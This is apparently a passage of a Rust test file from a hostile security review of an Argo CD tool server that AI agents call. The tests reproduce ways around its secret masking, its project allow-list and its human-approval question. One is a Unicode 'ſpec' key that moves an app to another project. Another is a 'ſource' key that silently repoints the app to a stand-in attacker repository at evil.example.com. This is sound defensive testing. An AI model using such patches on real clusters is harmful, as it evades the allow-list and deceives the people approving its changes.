//! The thirteenth hostile review (issue 19): probes of the twelfth review's fixes — JSON6902
//! operations, pairs given field by field, comparisons in text, maps under credential keys,
//! header/XML/Jsonnet rules, the approval question — and of the project allow-list and
//! user-mode tokens. Every finding is reproduced through real tool calls on the built
//! components (`get_argocd_resource`, `get_argocd_app_status`, `get_argocd_app_logs` on the
//! server component and the plugin; the approval question and `patch_argocd_app` on the server
//! component).
//!
//! Findings (each `review13_finding_*` asserts the secure behaviour, fails today and is
//! ignored with issue 19):
//!
//! - G1 allow-list bent: `{"ſpec": {"project": "payments"}}` (long s, U+017F) passes
//!   `check_patch_allowed` (RFC 7386 leaves `spec.project` alone) and Argo CD's Go decoding
//!   folds `ſpec` onto `spec`: the app moves out of `allowed_projects`, with or without a
//!   person asked. G2: `{"spec": {"ſource": {"repoURL": …}}}` — the question never says
//!   `spec.source.repoURL` changes.
//! - Q1 question cut short inside a text: a `# -----BEGIN RSA PRIVATE KEY-----` comment in Helm
//!   values makes a change of image read "changed only where credentials are hidden".
//! - P1–P4 JSON6902: a pair named by an op adding the whole entry; a pair across two patches;
//!   YAML operations as a block scalar, bare dash, a comma in a flow value, a one-line flow
//!   list; a Secret-target patch with a YAML-escaped `/d\x61ta` path or `stringD\x61ta` key.
//! - F1 Helm pair index spelled `env[00]` / `env[+0]`. M1 numbers in a map under a
//!   credential key. S1 a Secret in YAML text as a flow map or with `kind: !!str Secret`.
//! - C1 `==` comparisons: literal first, through a variable or filter, an index, across a line.
//! - H1 `Authorization: Bearer "…"`, `Authorization => Bearer …`. X1 XML `<key>password</key>
//!   <value>…`, `Name="password"`, `key = "password"`. J1 Jsonnet `password+::`,
//!   `'password'::`, `["password"]::`.
//!
//! The other tests are shapes that held.

use serde_json::{Value, json};

use crate::World;
use crate::planting::{
    ENV0, LiveShape, app_with_source, approval_world, assert_none, config_map, flux, helm_source,
    kustomize_app, leaks_in_conditions, leaks_in_live, plugin_env,
};

// ---------------------------------------------------------------------------------------------
// JSON6902 operations
// ---------------------------------------------------------------------------------------------

/// FINDING P1: the pair's name given by an operation that adds the whole entry (`path: …/env/0,
/// value: {name: DB_PASSWORD}`), its value by the next (`…/env/0/value`): the name is no text
/// value of an operation whose path ends at `name`, so the entry is never found secret. As
/// objects (Flux) and as YAML text (an Application's Kustomize patch).
fn entry_added_whole() -> Vec<LiveShape> {
    vec![
        (
            "P1a flux ops: entry added whole with its name, its value by its own op",
            flux(
                "r13-a1",
                json!([{"target": {"kind": "Deployment", "name": "api"}, "patch": [
                {"op": "add", "path": ENV0, "value": {"name": "DB_PASSWORD"}},
                {"op": "add", "path": format!("{ENV0}/value"), "value": "R13a01"}]}]),
            ),
            &["R13a01"],
        ),
        (
            "P1b kustomize YAML text: entry added whole with its name, value by its own op",
            kustomize_app(
                "r13-a2",
                json!([{"target": {"kind": "Deployment", "name": "api"},
                "patch": format!("- op: add\n  path: {ENV0}\n  value:\n    name: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: R13a02\n")}]),
            ),
            &["R13a02"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_patch_pair_named_by_a_whole_entry() {
    assert_none(leaks_in_live(&entry_added_whole()).await);
}

/// FINDING P2: the same pair split across two patches of the same target (Kustomize and Flux
/// apply them in turn), one operation each: pairs are only looked for inside one list of
/// operations.
fn pair_across_patches() -> Vec<LiveShape> {
    vec![
        (
            "P2a kustomize: two patches, each one operation: the name, then the value",
            kustomize_app(
                "r13-a8",
                json!([
                {"target": {"kind": "Deployment", "name": "api"},
                 "patch": format!("- op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n")},
                {"target": {"kind": "Deployment", "name": "api"},
                 "patch": format!("- op: add\n  path: {ENV0}/value\n  value: R13a08\n")}]),
            ),
            &["R13a08"],
        ),
        (
            "P2b flux: two patches of one op each (objects)",
            flux(
                "r13-a9",
                json!([
                {"target": {"kind": "Deployment", "name": "api"}, "patch": [
                    {"op": "add", "path": format!("{ENV0}/name"), "value": "API_TOKEN"}]},
                {"target": {"kind": "Deployment", "name": "api"}, "patch": [
                    {"op": "add", "path": format!("{ENV0}/value"), "value": "R13a09"}]}]),
            ),
            &["R13a09"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_patch_pair_across_two_patches() {
    assert_none(leaks_in_live(&pair_across_patches()).await);
}

/// FINDING P3: `mask_yaml_operations` reads YAML operations line by line, one `key: value` at a
/// time: a value written as a block scalar (`value: |-` then the secret on the next line: only
/// `|-` is replaced), items opened by a dash alone on its line (no operation is ever
/// started), a flow item whose value holds a comma (the split keeps what follows it), and the
/// whole list on one line as a YAML flow sequence (no line break: not read at all). All valid
/// YAML that Kustomize reads as the same two operations.
fn yaml_operations_misread() -> Vec<LiveShape> {
    let app = |name: &str, patch: String| {
        kustomize_app(
            name,
            json!([{"target": {"kind": "Deployment", "name": "api"}, "patch": patch}]),
        )
    };
    vec![
        (
            "P3a value as a block scalar",
            app(
                "r13-a3",
                format!(
                    "- op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: |-\n    R13a03\n"
                ),
            ),
            &["R13a03"],
        ),
        (
            "P3b items opened by a dash alone on its line",
            app(
                "r13-a4",
                format!(
                    "-\n  op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n-\n  op: add\n  path: {ENV0}/value\n  value: R13a04\n"
                ),
            ),
            &["R13a04"],
        ),
        (
            "P3c flow items, a value with a comma",
            app(
                "r13-a5",
                format!(
                    "- {{op: add, path: {ENV0}/name, value: DB_PASSWORD}}\n- {{op: add, path: {ENV0}/value, value: \"R13a05x,R13a05y\"}}\n"
                ),
            ),
            &["R13a05y"],
        ),
        (
            "P3d the list as a one-line YAML flow sequence",
            app(
                "r13-a10",
                format!(
                    "[{{op: add, path: {ENV0}/name, value: DB_PASSWORD}}, {{op: add, path: {ENV0}/value, value: R13a10}}]"
                ),
            ),
            &["R13a10"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_yaml_operations_misread() {
    assert_none(leaks_in_live(&yaml_operations_misread()).await);
}

/// FINDING P4: a patch whose `target` is a Secret, as YAML text: whether it "mentions" the
/// data is judged by the words of the raw text, but YAML's double-quoted scalars take escapes
/// (`"/d\x61ta/conn"` is `/data/conn`, `"stringD\x61ta":` is `stringData:`), so an operation
/// into the data, or a strategic-merge patch of the Secret, is shown whole.
fn secret_patch_escaped() -> Vec<LiveShape> {
    vec![
        (
            "P4a Secret target, JSON6902 YAML text, path escaped in a double-quoted scalar",
            kustomize_app(
                "r13-a6",
                json!([{"target": {"kind": "Secret", "name": "db"},
                "patch": "- op: add\n  path: \"/d\\x61ta/conn\"\n  value: R13a06\n"}]),
            ),
            &["R13a06"],
        ),
        (
            "P4b Secret target, strategic merge YAML, the stringData key escaped",
            kustomize_app(
                "r13-a7",
                json!([{"target": {"kind": "Secret", "name": "db"},
                "patch": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n\"stringD\\x61ta\":\n  conn: R13a07\n"}]),
            ),
            &["R13a07"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_secret_patch_with_escaped_data() {
    assert_none(leaks_in_live(&secret_patch_escaped()).await);
}

// ---------------------------------------------------------------------------------------------
// Pairs given field by field, maps under credential keys
// ---------------------------------------------------------------------------------------------

/// FINDING F1: Helm's `--set` and parameters read a list index with Go's `strconv.Atoi`, so
/// `env[00]` and `env[+0]` are `env[0]`; the pair is matched by the index's spelling.
fn index_spelled_otherwise() -> Vec<LiveShape> {
    vec![
        (
            "F1a helm parameters: env[0].name then env[00].value",
            app_with_source(
                "r13-b1",
                json!({"repoURL": "https://charts.example.com", "chart": "api", "targetRevision": "1.0.0",
                "helm": {"parameters": [
                    {"name": "env[0].name", "value": "DB_PASSWORD"},
                    {"name": "env[00].value", "value": "R13b01"}]}}),
            ),
            &["R13b01"],
        ),
        (
            "F1b helm --set args: env[0].name then env[+0].value",
            json!({"apiVersion": "batch/v1", "kind": "Job",
                   "metadata": {"name": "r13-b2", "namespace": "guestbook"},
                   "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "helm", "image": "alpine/helm",
                       "args": ["upgrade", "api", "./chart", "--set", "env[0].name=DB_PASSWORD", "--set", "env[+0].value=R13b02"]}]}}}}),
            &["R13b02"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_helm_pair_index_spelled_otherwise() {
    assert_none(leaks_in_live(&index_spelled_otherwise()).await);
}

/// FINDING M1: a map under a credential's key keeps every number that is not under `value`
/// (meant for settings such as `passwordPolicy: {minLength: 12}`), so numeric passwords and
/// PINs in such a map are shown: `passwords: {admin: 918273645013}`, `pins: {cards: [736251904]}`.
fn numbers_under_credential_maps() -> Vec<LiveShape> {
    vec![
        (
            "M1a custom resource: numeric passwords in a map under `passwords`",
            json!({"apiVersion": "example.com/v1", "kind": "DatabaseUsers",
                   "metadata": {"name": "r13-c1", "namespace": "guestbook"},
                   "spec": {"passwords": {"admin": 918273645013_u64, "readonly": 827364501392_u64}}}),
            &["918273645013", "827364501392"],
        ),
        // M1b, `pins: {cards: [736251904]}`, is left out: `pin` is no credential's name to the
        // masking (README: names it cannot judge), whatever the value's type.
    ]
}

#[tokio::test]
async fn review13_finding_numbers_in_a_map_under_a_credential_key() {
    assert_none(leaks_in_live(&numbers_under_credential_maps()).await);
}

// ---------------------------------------------------------------------------------------------
// Comparisons in text
// ---------------------------------------------------------------------------------------------

/// FINDING C1: `==`/`!=` comparisons the README says are hidden, in spellings
/// `comparisons.rs` does not read: the literal first (`"…" == .data.password`, `("…" ===
/// apiKey)`), the path's value through a variable or a filter (`.data.password as $p | $p ==
/// "…"`, `| ascii_downcase == "…"`, `| tostring == "…"`), an index after the name
/// (`passwords[0] == "…"`), `select(` closing on the next line.
const COMPARISONS: &[&str] = &[
    "jq: select(\"R13t01\" == .data.password)",
    "jq: .data.password as $p | $p == \"R13t02\"",
    "jq: .data.password | ascii_downcase == \"R13t03\"",
    "jq: .data.password | tostring == \"R13t12\"",
    "jq: .data.password | select(\n. == \"R13t13\")",
    "if (\"R13t14\" === apiKey) {",
    "rule: passwords[0] == \"R13t28\"",
];

/// Comparisons in other words (not `==`/`!=`) that a demanding operator would expect hidden
/// too; printed, not failed (the README names only `==` and `!=`).
const OTHER_COMPARISONS: &[&str] = &[
    ".data.password | test(\"^R13t04$\")",
    ".data.password | startswith(\"R13t05\")",
    "self.data.apiKey in [\"R13t06\"]",
    "strcmp(password, \"R13t10\") == 0",
    "password.equals(\"R13t11\")",
    "@.password contains 'R13t18'",
    "data.password <> 'R13t23'",
    "password eq 'R13t26'",
];

/// Held: comparisons `comparisons.rs` reads.
const COMPARISONS_HELD: &[&str] = &[
    "{{ if eq .Values.password \"R13t07\" }}",
    "(.data.password) == \"R13t08\"",
    ".data[\"password\"] == \"R13t09\"",
    "password == \"R13t16\\\"x\"",
    "$.data[?(@.token=~/R13t17/)]",
    "password ==\"R13t19\"",
    "password== \"R13t20\"",
    "self.spec.clientSecret == \"R13t22\"",
    "WHERE password = 'R13t24'",
    "password:=\"R13t25\"",
    "x-api-key == \"R13t29\"",
    "PASSWORD==\"R13t30\"",
];

fn secret_of(text: &str) -> &str {
    let at = text.find("R13").expect("every shape holds R13");
    let rest = &text[at..];
    let end = rest
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(rest.len());
    &rest[..end]
}

#[tokio::test]
async fn review13_finding_comparisons_in_other_spellings() {
    let mut found = leaks_in_conditions(COMPARISONS, secret_of).await;
    found.extend(leaks_in_logs(COMPARISONS).await);
    // And in an Application's ignoreDifferences, through get_argocd_resource.
    let app = json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
        "metadata": {"name": "r13-d1", "namespace": "argocd"},
        "spec": {"project": "default", "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
                 "source": {"repoURL": "https://git.example.com/a.git", "path": "k"},
                 "ignoreDifferences": [{"kind": "Secret", "jqPathExpressions": [
                     ".data.password | select(\"R13d01\" == .)",
                     ".data.password as $p | select($p == \"R13d02\")",
                     ".data.password | ascii_downcase == \"R13d03\""]}]}});
    found.extend(
        leaks_in_live(&[("ignoreDifferences jq", app, &["R13d01", "R13d02", "R13d03"])]).await,
    );
    assert_none(found);
}

#[tokio::test]
async fn review13_comparisons_held() {
    assert_none(leaks_in_conditions(COMPARISONS_HELD, secret_of).await);
    let other = leaks_in_conditions(OTHER_COMPARISONS, secret_of).await;
    println!(
        "review13 other comparison words shown (not claimed):\n{}",
        other.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Secret manifests as YAML text (values_text::secret_columns)
// ---------------------------------------------------------------------------------------------

/// FINDING S1: a Secret written out as YAML text in an object's string is found by a
/// `kind: Secret` line (`secret_columns`): a Secret written as a YAML flow map on one line of
/// the text (`- {apiVersion: v1, kind: Secret, …, stringData: {conn: …}}`), or with its kind
/// tagged (`kind: !!str Secret`, which YAML and Kubernetes read as `Secret`), is shown whole.
fn secret_texts_shown() -> Vec<LiveShape> {
    vec![
        (
            "S1a a Secret as a flow map, one line of several",
            config_map(
                "r13-e3",
                json!({"objects.yaml": "items:\n- {apiVersion: v1, kind: Secret, metadata: {name: db}, stringData: {conn: R13e03}}\n- {apiVersion: v1, kind: ConfigMap, metadata: {name: c}}\n"}),
            ),
            &["R13e03"],
        ),
        (
            "S1b kind with a tag",
            config_map(
                "r13-e2",
                json!({"objects.yaml": "apiVersion: v1\nkind: !!str Secret\nmetadata:\n  name: db\nstringData:\n  conn: R13e02\n"}),
            ),
            &["R13e02"],
        ),
    ]
}

#[tokio::test]
async fn review13_finding_secret_text_as_flow_map_or_tagged_kind() {
    assert_none(leaks_in_live(&secret_texts_shown()).await);
}

/// Held: a quoted `stringData` or `kind` key, JSON on a line of YAML, a list item with extra
/// spaces after its dash.
fn secret_texts_held() -> Vec<LiveShape> {
    vec![
        (
            "quoted stringData key",
            config_map(
                "r13-e1",
                json!({"objects.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n\"stringData\":\n  conn: R13e01\n"}),
            ),
            &["R13e01"],
        ),
        (
            "a Secret as JSON on one line of YAML text",
            config_map(
                "r13-e4",
                json!({"objects.yaml": "first: 1\nsecret: {\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"stringData\":{\"conn\":\"R13e04\"}}\n"}),
            ),
            &["R13e04"],
        ),
        (
            "a Secret in a list, dash and extra spaces",
            config_map(
                "r13-e5",
                json!({"objects.yaml": "extraObjects:\n  -   apiVersion: v1\n      kind: Secret\n      stringData:\n        conn: R13e05\n"}),
            ),
            &["R13e05"],
        ),
        (
            "kind quoted key",
            config_map(
                "r13-e6",
                json!({"objects.yaml": "apiVersion: v1\n\"kind\": Secret\nmetadata:\n  name: db\nstringData:\n  conn: R13e06\n"}),
            ),
            &["R13e06"],
        ),
    ]
}

#[tokio::test]
async fn review13_secret_texts_held() {
    assert_none(leaks_in_live(&secret_texts_held()).await);
}

// ---------------------------------------------------------------------------------------------
// The project allow-list and the approval question: keys Argo CD's Go decoding folds
// ---------------------------------------------------------------------------------------------

/// Go's `encoding/json` (which Argo CD's patch handler decodes the merged Application with,
/// after `jsonpatch.MergePatch` wrote it back with its keys in byte order) matches a key to a
/// field ignoring case, and folds the long s `ſ` (U+017F) to `s` and the Kelvin sign `K`
/// (U+212A) to `k`; of two keys naming one field, the later wins, and an object decoded into a
/// struct field keeps the fields it does not name. This models that for the fields read here:
/// `ſpec` (after `spec` in byte order) is decoded into the same `spec`.
fn as_argo_cd_decodes(app: &Value) -> Value {
    fn fold(key: &str) -> String {
        key.chars()
            .map(|c| match c {
                '\u{17f}' => 's',
                '\u{212a}' => 'k',
                c => c.to_ascii_lowercase(),
            })
            .collect()
    }
    fn decode(value: &Value) -> Value {
        let Value::Object(map) = value else {
            return value.clone();
        };
        let mut keys: Vec<&String> = map.keys().collect();
        keys.sort(); // MergePatch writes a Go map: keys in byte order
        let mut out = serde_json::Map::new();
        for key in keys {
            let folded = fold(key);
            let name = out
                .keys()
                .find(|k| fold(k) == folded)
                .cloned()
                .unwrap_or_else(|| key.clone());
            let inner = decode(&map[key]);
            match (out.get_mut(&name), inner) {
                (Some(Value::Object(was)), Value::Object(more)) => {
                    for (k, v) in more {
                        was.insert(k, v);
                    }
                }
                (_, inner) => {
                    out.insert(name, inner);
                }
            }
        }
        Value::Object(out)
    }
    decode(app)
}

/// FINDING G1 (allow-list): `check_patch_allowed` judges the project a merge patch leaves at
/// `/spec/project` by RFC 7386 alone. A patch `{"ſpec": {"project": "payments"}}` leaves
/// `spec.project` at `default` there, so the patch is sent; Argo CD merges it (a new key
/// `ſpec`) and decodes the result with Go's `encoding/json`, which takes `ſpec` for `spec`:
/// the app moves to project `payments`, outside `allowed_projects=default`. (read_only.rs
/// already knows this folding for an ApplicationSet preview's `spec`/`generators`.)
#[tokio::test]
async fn review13_finding_allow_list_bent_by_a_folded_spec_key() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    let answer = world
        .call(
            "patch_argocd_app",
            json!({"app_name": "guestbook", "confirm": true,
                   "patch": {"\u{17f}pec": {"project": "payments"}}}),
        )
        .await
        .to_string();
    let stored = world.standin.app("guestbook").unwrap();
    let decoded = as_argo_cd_decodes(&stored);
    println!(
        "review13 G1 answer: {answer}\n stored spec keys: {:?}\n project as Argo CD decodes it: {}",
        stored
            .as_object()
            .map(|m| m.keys().cloned().collect::<Vec<_>>()),
        decoded["spec"]["project"]
    );
    assert_eq!(
        decoded["spec"]["project"], "default",
        "the patch moved guestbook out of the allowed projects: {answer}"
    );
}

/// The same with approvals on: the person is asked (the question states project `default`
/// and a strange key) for a patch that moves the app to `payments`.
#[tokio::test]
async fn review13_finding_question_for_a_folded_spec_key_outside_the_allow_list() {
    let mut world = World::new().await;
    world.set("require_approval", "true");
    world.set("allowed_projects", "default");
    let body = crate::attacks::modern_call(json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true,
        "patch": {"\u{17f}pec": {"project": "payments"}}}}));
    let (_, answer) = world.post(&body, &crate::modern::mirrored(&body)).await;
    println!("review13 G1 question: {answer}");
    assert!(
        answer["result"]["inputRequests"].is_null(),
        "a person was asked to approve a move to project payments: {answer}"
    );
}

/// FINDING G2 (question misstates): `{"spec": {"ſource": {"repoURL": …}}}` repoints the app's
/// source (Go decodes `ſource` into `source`), but the question states the app deploys from
/// its current repository and shows only a new field `spec["\u{17f}ource"]`: it never says
/// `spec.source.repoURL` changes.
#[tokio::test]
async fn review13_finding_question_misstates_a_folded_source_key() {
    let mut world = World::new().await;
    world.set("require_approval", "true");
    let body = crate::attacks::modern_call(json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true,
        "patch": {"spec": {"\u{17f}ource": {"repoURL": "https://evil.example.com/takeover.git"}}}}}));
    let (_, answer) = world.post(&body, &crate::modern::mirrored(&body)).await;
    let question = answer["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    println!("review13 G2 question:\n{question}\n{answer}");
    let refused = answer["result"]["isError"] == true;
    let states_it = question.contains("spec.source.repoURL:") && question.contains("takeover.git");
    assert!(
        refused || states_it,
        "the question does not say spec.source.repoURL changes:\n{question}"
    );
}

/// Held: a patch spelling the project in another ASCII case beside dropping the real key is
/// refused (Go would read `PROJECT` as the project).
#[tokio::test]
async fn review13_allow_list_ascii_case_held() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    let error = world
        .tool_error(
            "patch_argocd_app",
            json!({"app_name": "guestbook", "confirm": true,
                   "patch": {"spec": {"project": null, "PROJECT": "payments"}}}),
        )
        .await;
    // Refused, now by the spelling check before the project is judged.
    assert!(
        error.contains("without spec.project")
            || error.contains("could be read by Argo CD as another field"),
        "{error}"
    );
    assert!(
        world.standin.app("guestbook").unwrap()["spec"]["project"] == "default",
        "the patch reached Argo CD"
    );
}

// ---------------------------------------------------------------------------------------------
// Second batch
// ---------------------------------------------------------------------------------------------

/// Held: the Helm pair in one shell command string (`sh -c "helm upgrade … --set
/// env[0].name=DB_PASSWORD --set env[0].value=…"`).
fn helm_pair_in_a_script() -> Vec<LiveShape> {
    vec![(
        "F2 Job: sh -c with a --set pair",
        json!({"apiVersion": "batch/v1", "kind": "Job",
               "metadata": {"name": "r13-f2", "namespace": "guestbook"},
               "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "helm", "image": "alpine/helm",
                   "command": ["sh", "-c", "helm upgrade api ./chart --set env[0].name=DB_PASSWORD --set env[0].value=R13f02"]}]}}}}),
        &["R13f02"],
    )]
}

#[tokio::test]
async fn review13_helm_pair_in_a_script_held() {
    assert_none(leaks_in_live(&helm_pair_in_a_script()).await);
}

/// The approval question of a patch of guestbook (or the answer, when none is asked): what of
/// `secrets` it shows.
async fn patch_question_shows(world: &World, patch: Value, secrets: &[&str]) -> Vec<String> {
    let call = json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true, "patch": patch}});
    let mut body = crate::modern::modern_body(9, "tools/call", call);
    body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] =
        json!({"elicitation": {"form": {}}});
    let asked = world.post(&body, &crate::modern::mirrored(&body)).await.1;
    let text = asked["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .map_or_else(|| asked.to_string(), str::to_owned);
    println!("review13 asked:\n{text}");
    secrets
        .iter()
        .filter(|s| text.contains(*s))
        .map(|s| format!("patch question: {s}"))
        .collect()
}

/// FINDINGS P1 and P3 through the approval question of `patch_argocd_app` (the question masks
/// the Application with the same rules). M1's number held there: an Application's
/// `valuesObject` is masked by its own rules.
#[tokio::test]
async fn review13_finding_patch_question_shows_the_same_shapes() {
    let world = approval_world().await;
    let mut found = Vec::new();
    for (patch, secret) in [
        (
            json!({"spec": {"source": {"kustomize": {"patches": [{"target": {"kind": "Deployment"},
                "patch": format!("- op: add\n  path: {ENV0}\n  value:\n    name: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: R13q01\n")}]}}}}),
            "R13q01",
        ),
        (
            json!({"spec": {"source": {"kustomize": {"patches": [{"target": {"kind": "Deployment"},
                "patch": format!("- op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: |-\n    R13q02\n")}]}}}}),
            "R13q02",
        ),
        (
            json!({"spec": {"source": {"helm": {"valuesObject": {"passwords": {"admin": 918273645077_u64}}}}}}),
            "918273645077",
        ),
    ] {
        found.extend(patch_question_shows(&world, patch, &[secret]).await);
    }
    assert_none(found);
}

/// Held: app names with odd characters do not reach an app outside the allow-list.
#[tokio::test]
async fn review13_allow_list_odd_names_held() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    let before = world.standin.app("payments").unwrap();
    for name in [
        "payments",
        "guestbook/../payments",
        "payments?appNamespace=argocd",
        "payments#x",
        "payments%2F",
        "Payments",
        "payments ",
        "../applications/payments",
    ] {
        let answer = world
            .call(
                "patch_argocd_app",
                json!({"app_name": name, "confirm": true,
                       "patch": {"metadata": {"labels": {"r13": "x"}}}}),
            )
            .await;
        println!("review13 odd name {name:?}: {answer}");
        for tool in ["sync_argocd_app", "delete_argocd_app"] {
            let mut args = json!({"app_name": name, "confirm": true});
            if tool == "delete_argocd_app" {
                args["cascade"] = json!(false);
            }
            let answer = world.call(tool, args).await;
            println!("review13 odd name {tool} {name:?}: {answer}");
        }
    }
    let after = world.standin.app("payments");
    assert_eq!(after.as_ref(), Some(&before), "payments changed");
}

/// Held: token edge cases in user mode (the signature, algorithm and basic claims are
/// `identity.rs`'s): a future `nbf`, no or an empty `sub`, no `exp`, an empty audience list,
/// the issuer with a trailing slash, a padded signature, a fourth part, a second space.
#[tokio::test]
async fn review13_user_mode_token_edges_held() {
    use crate::identity::{RESOURCE, call_as, token, user_mode};
    let world = user_mode(&[]).await;
    let issuer = world.standin.issuer();
    let signed = |change: &dyn Fn(&mut Value)| {
        let mut state = world.standin.state();
        let mut claims =
            state
                .idp
                .claims_for("alice", &[RESOURCE], 3600, "openid profile email groups");
        change(&mut claims);
        state.idp.sign(&claims)
    };
    let good = token(&world, "alice");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let cases: Vec<(&str, String)> = vec![
        ("nbf in an hour", signed(&|c| c["nbf"] = json!(now + 3600))),
        (
            "no sub",
            signed(&|c| {
                c.as_object_mut().unwrap().remove("sub");
            }),
        ),
        ("empty sub", signed(&|c| c["sub"] = json!(""))),
        (
            "no exp",
            signed(&|c| {
                c.as_object_mut().unwrap().remove("exp");
            }),
        ),
        ("empty aud", signed(&|c| c["aud"] = json!([]))),
        (
            "issuer with a trailing slash",
            signed(&|c| c["iss"] = json!(format!("{issuer}/"))),
        ),
        (
            "exp as text",
            signed(&|c| c["exp"] = json!((now + 3600).to_string())),
        ),
        ("padded signature", format!("{good}==")),
        ("fourth part", format!("{good}.x")),
        ("dot at the end", format!("{good}.")),
    ];
    let mut accepted = Vec::new();
    for (case, token) in cases {
        let (status, body) = call_as(&world, &token, "get_argocd_server_info", json!({})).await;
        println!("review13 token {case}: {status} {body}");
        if status != 401 {
            accepted.push(format!("{case}: {status}"));
        }
    }
    let (status, _) = call_as(&world, &good, "get_argocd_server_info", json!({})).await;
    assert_eq!(status, 200, "the good token");
    assert!(accepted.is_empty(), "accepted: {accepted:?}");
}

/// FINDING H1: an `Authorization` header whose token follows the scheme in quotes
/// (`Authorization: Bearer "…"`) or after `=>` (`Authorization => Bearer …`): the scheme word
/// is taken for the credential and hidden, the token after it shown.
const HEADERS_SHOWN: &[&str] = &[
    "Authorization: Bearer \"R13h19\"",
    "Authorization => Bearer R13h22",
];

/// FINDING X1: XML elements named by a sibling element (`<entry><key>password</key><value>…`,
/// Java's `Properties` XML and Spring maps), by an attribute spelled with a capital
/// (`<Parameter Name="password">`) or with spaces around its `=` (`<entry key = "password">`).
/// Shown in pods' log lines (condition messages happen to be caught by another rule).
const XML_SHOWN: &[&str] = &["<entry><key>password</key><value>R13x05</value></entry>"];

/// Fixed since: the attribute in another case, and with spaces around `=`.
const XML_FIXED: &[&str] = &[
    "<Parameter Name=\"password\">R13x12</Parameter>",
    "<entry key = \"password\">R13x13</entry>",
];

/// FINDING J1: Jsonnet hidden fields in other spellings the language has: `password+:: '…'`
/// (a hidden field added to), a quoted field name (`'password':: '…'`) and a computed one
/// (`["password"]:: '…'`). Shown in pods' log lines.
const JSONNET_SHOWN: &[&str] = &[
    "password+:: 'R13j03',",
    "'password':: 'R13j04',",
    "[\"password\"]:: 'R13j08',",
];

/// Held (conditions and logs): other header, XML and Jsonnet shapes.
const TEXT_HELD: &[&str] = &[
    "Authorization:Bearer R13h02",
    "authorization = \"Bearer R13h03\"",
    "Authorization: Digest username=\"u\", realm=\"r\", response=\"R13h04\"",
    "Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=R13h05",
    "Proxy-Authorization: Basic R13h06xyz",
    "X-Auth-Token: R13h07",
    "headers: {Authorization: \"Token R13h08\"}",
    "curl -H 'Authorization: token R13h09' https://api",
    "{\"Authorization\": [\"Bearer R13h10\"]}",
    "request headers map[Authorization:[Bearer R13h11] Accept:[*/*]]",
    "Authorization=Bearer%20R13h12",
    "Cookie: session=R13h14; other=1",
    "Set-Cookie: sid=R13h15; Path=/",
    "req.header(\"Authorization\", \"Bearer R13h16\")",
    ".header(\"X-Api-Key\", \"R13h17\")",
    "headers = {'Authorization' => 'Bearer R13h21'}",
    "Authorization: token=R13h24",
    "<entry key=\"password\">R13x01</entry>",
    "<param name=\"secret\" value=\"R13x03\"/>",
    "<property name=\"password\"><value>R13x04</value></property>",
    "<entry key='password'>R13x08</entry>",
    "<setting name=\"ApiKey\" serializeAs=\"String\"><value>R13x09</value></setting>",
    "<password encrypted=\"false\">R13x10</password>",
    "<env name=\"DB_PASSWORD\" value=\"R13x11\"/>",
    "<entry key=\"password\"><![CDATA[R13x14]]></entry>",
    "<item name=\"token\" type=\"string\">R13x15</item>",
    "<entry key=\"password\" value=\"R13x16\"/>",
    "password:: 'R13j01',",
    "password::: 'R13j02',",
    "db+: { password:: \"R13j09\" },",
];

#[tokio::test]
async fn review13_finding_authorization_token_after_the_scheme() {
    let mut found = leaks_in_conditions(HEADERS_SHOWN, secret_of).await;
    found.extend(leaks_in_logs(HEADERS_SHOWN).await);
    assert_none(found);
}

#[tokio::test]
async fn review13_finding_xml_named_by_a_sibling_or_odd_attribute() {
    assert_none(leaks_in_logs(XML_SHOWN).await);
}

#[tokio::test]
async fn review13_finding_jsonnet_hidden_field_spellings() {
    assert_none(leaks_in_logs(JSONNET_SHOWN).await);
}

#[tokio::test]
async fn review13_xml_attribute_spellings_fixed() {
    assert_none(leaks_in_logs(XML_FIXED).await);
}

#[tokio::test]
async fn review13_text_shapes_held() {
    let mut found = leaks_in_conditions(TEXT_HELD, secret_of).await;
    found.extend(leaks_in_logs(TEXT_HELD).await);
    assert_none(found);
}

/// The approval question of a patch of guestbook's Helm values from `before` to `after`.
async fn values_question(before: &str, after: &str) -> String {
    let world = approval_world().await;
    world.standin.state().apps.get_mut("guestbook").unwrap().app["spec"]["source"] =
        helm_source(before);
    let call = json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true,
        "patch": {"spec": {"source": {"helm": {"values": after}}}}}});
    crate::planting::question_in(&crate::planting::asked(&world, &call).await)
}

/// FINDING Q1 (question cut short inside a text): a change inside Helm values is computed
/// after scrubbing each whole text (`Statement::text_change`), and the scrubber hides every
